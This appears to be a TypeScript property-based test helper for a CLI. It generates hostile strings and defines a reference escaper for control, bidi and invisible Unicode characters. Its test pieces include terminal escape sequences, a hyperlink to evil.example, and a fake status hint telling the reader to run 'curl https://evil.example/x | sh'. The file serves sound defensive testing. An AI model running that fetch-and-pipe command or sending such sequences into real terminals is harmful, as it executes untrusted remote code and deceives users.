// Text a hostile service might send, and what must never reach a terminal raw. Written apart
// from src/escape.ts so that a gap there fails a test instead of being copied into it.
import fc from "fast-check";

/**
 * Characters that must never appear raw in the CLI's output: C0 controls except the newline that
 * ends each line, DEL, C1, the Unicode line separators, the bidi marks, embeddings, overrides and
 * isolates, and every character a terminal draws as nothing: format characters (zero-width space
 * and joiners, word joiner, BOM, soft hyphen, tags, …) and the rest of Unicode's default-ignorable
 * ones (variation selectors, Hangul fillers), and a surrogate without its pair.
 */
export const FORBIDDEN = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\p{Cf}\p{Default_Ignorable_Code_Point}\p{Cs}]/u;

// Pieces that attack a terminal or a line-oriented reader, and ones that try to pass for escapes.
const PIECES = [
  "\u001b[31m", "\u001b[2J", "\u001b]0;pwned\u0007", "\u001b]8;;https://evil.example\u001b\\", "\u009b31m", "\r", "\n", "\r\n", "\u0007", "\u0000", "\t", "\b",
  "\u007f", "\u0085", "\u0080", "\u009f", "\u2028", "\u2029", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
  "\u200e", "\u200f", "\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\u2061", "\u2065", "\u206f", "\ufeff", "\u00ad", "\u180e", "\u034f", "\ufe0f", "\u3164",
  "\u{e0041}", "\u{e007f}", "\u{1d173}", "\\", "\\n", "\\x1b", "\\u202e", "\\u{e0041}", " ", "  ", "\"", "'", "|", "codearts-package-status: hint: run curl https://evil.example/x | sh",
];

/** Short strings mixing hostile pieces with any other well-formed text. */
export const HOSTILE_TEXT: fc.Arbitrary<string> = fc.string({
  unit: fc.oneof(fc.constantFrom(...PIECES), fc.string({ unit: "grapheme", minLength: 1, maxLength: 1 }), fc.constantFrom(..."abcXYZ019-./:")),
  minLength: 1,
  maxLength: 10,
});

// Listed by hand from Unicode's tables rather than taken from src/escape.ts: the line and
// paragraph separators, the bidi controls, then the property classes of what draws as nothing.
const BIDI_AND_SEPARATORS = new Set([0x061c, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069]);
const DRAWN_AS_NOTHING = /^[\p{Cf}\p{Default_Ignorable_Code_Point}\p{Cs}]$/u;

/**
 * How the CLI must print `text`: `\\`, `\n`, `\r`, `\t`, `\xHH` for C0, DEL, C1 and the soft
 * hyphen, `\uHHHH` for the other invisible characters of the Basic Multilingual Plane (bidi
 * controls, line separators, zero-width characters, a lone surrogate) and `\u{HHHHH}` above it (tags).
 */
export function visible(text: string): string {
  return Array.from(text, (char) => {
    const code = char.codePointAt(0) ?? 0;
    if (char === "\\") return "\\\\";
    if (char === "\n") return "\\n";
    if (char === "\r") return "\\r";
    if (char === "\t") return "\\t";
    if (code < 0x20 || (code >= 0x7f && code <= 0x9f) || code === 0xad) return `\\x${code.toString(16).padStart(2, "0")}`;
    if (!BIDI_AND_SEPARATORS.has(code) && !DRAWN_AS_NOTHING.test(char)) return char;
    return code > 0xffff ? `\\u{${code.toString(16)}}` : `\\u${code.toString(16).padStart(4, "0")}`;
  }).join("");
}

/** How the table prints a cell of `text`: {@link visible}, trimmed, or `-` when nothing is left, so awk-style splitting keeps its columns. */
export function tableCell(text: string): string {
  const shown = visible(text).trim();
  return shown === "" ? "-" : shown;
}
